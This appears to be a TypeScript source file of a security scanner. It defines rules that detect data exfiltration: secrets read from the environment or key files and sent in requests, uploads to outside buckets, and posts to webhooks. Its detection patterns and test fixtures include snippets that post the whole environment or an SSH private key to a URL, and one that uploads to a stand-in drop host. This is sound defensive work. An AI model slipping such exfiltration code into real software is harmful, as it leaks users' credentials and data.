import { anyOf } from '../syntax/any-of.ts'
import { type Call, mentions, namesFrom } from '../syntax/facts.ts'
import type { Unit } from '../unit.ts'
import { callsWhere, commandsWhere, hitOf, isProgram } from './places.ts'
import { type Hit, javascript, python, type Rule, shell } from './rule.ts'

/** What only this machine should know: the whole environment, secrets by their name, key files that are read. */
const SECRET_SOURCE = anyOf(
  '',
  /\bos\.environ\b(?!\s*[[.])|\bdict\(os\.environ/,
  /\bprocess\.env\b(?!\s*[[.?])|\bprocess\.env(?:\.|\[["'])\w*(?:SECRET|PASSWORD|TOKEN|API_?KEY|PRIVATE_?KEY)/,
  /(?:os\.environ(?:\.get)?|os\.getenv)\s*[[(]\s*["'][^"']*(?:SECRET|PASSWORD|TOKEN|API_?KEY|ACCESS_?KEY|PRIVATE_?KEY)[^"']*["']/,
  /(?:open|read_text|read_bytes|readFile(?:Sync)?)\([^)]*(?:\.ssh\/|\.aws\/|\.kube\/config|\.netrc|id_rsa|\.databrickscfg|["'/]\.env["'])/,
  /(?:\.ssh\/|\.aws\/|\.kube\/config|\.netrc|id_rsa|\.databrickscfg)[^)]*\)+\.(?:open|read_text|read_bytes)\(/,
)
/** Of these, what no login asks for. */
const BEYOND_LOGIN = anyOf(
  '',
  /\bos\.environ\b(?!\s*[[.])|\bdict\(os\.environ|\bprocess\.env\b(?!\s*[[.?])/,
  /\.ssh\/|\.aws\/|\.kube\/config|\.netrc|id_rsa|\.databrickscfg|["'/]\.env["']/,
)
/** A request without a body that is logged in by its headers. */
const LOGGED_IN = /\bRequest\((?!.*\bdata\s*=)(?=.*\bheaders\s*=)/s
/** An address that a name and its password belong to. */
const LOGS_IN = /\/(?:log-?in|sign-?in|token|authenticate)["'`]?$/i
const SENDS = anyOf(
  '',
  /^(?:requests|httpx|aiohttp|urllib\.request|urllib3|http\.client)\.(?:\w+\.)*(?:post|put|patch|get|request|urlopen|Request)$/,
  /^\?\.(?:post|put|sendall)$|(?:^|\.)(?:session|client|http|sock|s)\.(?:post|put|patch|sendall)$/,
  /^(?:fetch|axios(?:\.(?:post|put|get|request))?|got(?:\.\w+)?|https?\.request|navigator\.sendBeacon)$/,
)
/** Where a secret belongs: in the header that logs in. */
const LOGIN = /\b(?:headers|auth|cert|cookies)\s*=/
const LOGIN_KEY = /\b(?:headers|auth)\s*:\s*(?:\{[^{}]*\}|[\w.]+)/g

/** Calls that send what came from a source in the same function, by way of any number of names. */
function flows({ facts }: Unit): Hit[] {
  return facts.calls.filter((call) => SENDS.test(call.name) && sends(call)).map(hitOf)

  function sends(call: Call): boolean {
    const source = LOGS_IN.test(call.args[0]?.text ?? '') ? BEYOND_LOGIN : SECRET_SOURCE
    const tainted = namesFrom(source, call, facts, LOGGED_IN)
    return call.args.some(({ name, text }) => {
      if (LOGIN.test(`${name}=`)) return false
      const sent = text.replaceAll(LOGIN_KEY, '')
      return source.test(sent) || mentions(sent, tainted)
    })
  }
}

const UPLOADS = anyOf(
  '',
  /(?:^|\.)(?:upload_file|upload_fileobj|put_object|upload_blob|upload_from_filename|upload_folder|push_to_hub)$/,
  /^mlflow\.(?:sagemaker|azureml)\.\w+$/,
)

/** Whether a program says itself where its store is, and that is not a public address. */
const isOwnStore = ({ name }: Call, { facts }: Unit): boolean =>
  /(?:^|\.)(?:upload_file|upload_fileobj|put_object)$/.test(name) &&
  facts.calls.some(({ args }) =>
    args.some(
      (one) => one.name === 'endpoint_url' && !/^https?:\/\/[^/:]*\.(?!local\b|internal\b|svc\b)[a-z]{2,}(?:[/:]|$)/i.test(one.value ?? ''),
    ),
  )

/** What leaves the machine. */
export const FLOWS: readonly Rule[] = [
  {
    id: 'exfiltration/secret',
    category: 'DATA_EXFILTRATION',
    severity: 'critical',
    confidence: 'medium',
    cwe: 200,
    title: 'Secrets of the machine are sent somewhere',
    why: 'What was read from the environment or a key file goes, in the same function, into the body or address of a request.',
    means: 'Whoever answers there has the secret; the address of a request is in logs besides.',
    recommendation: 'Send no secret but the one that logs in there, in a header.',
    languages: ['python', 'javascript'],
    hints: ['environ', 'process.env', 'getenv', '.ssh', '.aws', '.kube', '.netrc', 'id_rsa', '.databrickscfg', '.env'],
    find: flows,
    bad: [
      python(
        'import os, requests\ndef report():\n    data = dict(os.environ)\n    body = {"d": data}\n    requests.post(URL, json=body)',
        5,
      ),
      python('import os, requests\nrequests.post(f"{ROOT}/login", json=dict(os.environ))', 2),
      python('import requests\ndef f():\n    key = open("/srv/x/.ssh/id_rsa").read()\n    requests.post(URL, data=key)', 4),
      javascript(
        'async function send() {\n  const all = JSON.stringify(process.env)\n  await fetch(url, { method: "POST", body: all })\n}',
        3,
      ),
    ],
    good: [
      python('import os, requests\ndef f():\n    token = os.environ["API_TOKEN"]\n    requests.post(URL, headers={"X": token}, json={})'),
      python('import os, requests\ndef f():\n    key = os.getenv("API_KEY")\ndef g():\n    requests.post(URL, data=body)'),
      python(
        'import os\nfrom urllib import request\nh = {"a": os.getenv("API_TOKEN")}\nr = request.Request(u, headers=h)\nrequest.urlopen(r)',
      ),
      python('def f():\n    where = os.environ.get("KUBECONFIG", "/x/.kube/config")\n    requests.get(address(where))'),
      python('import os, requests\nsent = {"password": os.environ["ADMIN_PASSWORD"]}\nrequests.post(f"{ROOT}/login", json=sent)'),
      javascript('fetch(url, { headers: { authorization: process.env.API_TOKEN }, body: text })'),
    ],
  },
  {
    id: 'exfiltration/upload',
    category: 'DATA_EXFILTRATION',
    severity: 'low',
    confidence: 'medium',
    cwe: 201,
    title: 'Files are uploaded to a service outside',
    why: 'A model or data goes to a bucket, a hub or a cloud’s model service.',
    means: 'What is in them leaves, training data that a model kept included.',
    recommendation: 'Name the targets that are allowed, and let nothing else out (egress rules).',
    languages: ['python', 'shell'],
    hints: ['upload', 'put_object', 'push_to_hub', 'sagemaker', 'azureml', 's3 '],
    find: (unit) =>
      unit.language === 'python'
        ? callsWhere(
            (call) => UPLOADS.test(call.name) && !call.args.some(({ text }) => /^b?(?:""|'')$/.test(text)) && !isOwnStore(call, unit),
          )(unit)
        : commandsWhere(
            (words) =>
              (isProgram(words, 'aws') &&
                words[1] === 's3' &&
                /^(?:cp|sync)$/.test(words[2] ?? '') &&
                /^s3:/.test(words.filter((word) => !word.startsWith('-')).at(-1) ?? '')) ||
              (isProgram(words, 'mlflow') && /^(?:sagemaker|azureml)$/.test(words[1] ?? '')),
          )(unit),
    bad: [
      python('s3 = boto3.client("s3")\ns3.upload_file("m.onnx", "bucket", "m")', 2),
      python('s3 = boto3.client("s3", endpoint_url="https://drop.example.com")\ns3.upload_file("m.onnx", "b", "m")', 2),
      shell('mlflow sagemaker build-and-push-container'),
    ],
    good: [
      python('s3.download_file("bucket", "m", "m.onnx")'),
      python('s3 = boto3.client("s3", endpoint_url=os.environ["STORE"])\ns3.upload_file("m.onnx", "b", "m")'),
      python('s3.put_object(Bucket=bucket, Key="marker", Body=b"")'),
      shell('aws s3 cp s3://bucket/m .'),
    ],
  },
  {
    id: 'exfiltration/webhook',
    category: 'DATA_EXFILTRATION',
    severity: 'low',
    confidence: 'medium',
    cwe: 201,
    title: 'Results are sent to a chat or a webhook',
    why: 'A request goes to an address that is called a webhook.',
    means: 'Metrics, names and errors leave to who reads the channel.',
    recommendation: 'Say what is sent, leave data and traces of errors out, and keep the address secret.',
    languages: ['python'],
    hints: ['ebhook', 'EBHOOK'],
    find: callsWhere(
      ({ name, args, text }) =>
        /(?:^|\.)(?:post|urlopen|request)$/.test(name) &&
        /webhook/i.test(args[0]?.text ?? '') &&
        !/^["'][^"':]*["']$/.test(args[0]?.text ?? '') &&
        args.length > 1 &&
        !/^(?:app|router|\w+_app|api|blueprint|bp)\./.test(text),
    ),
    bad: [python('requests.post(SLACK_WEBHOOK_URL, json={"text": str(error)})')],
    good: [python('requests.post(url, json={"text": "done"})'), python('@app.post("/webhook/labels")\ndef labels(): pass')],
  },
]
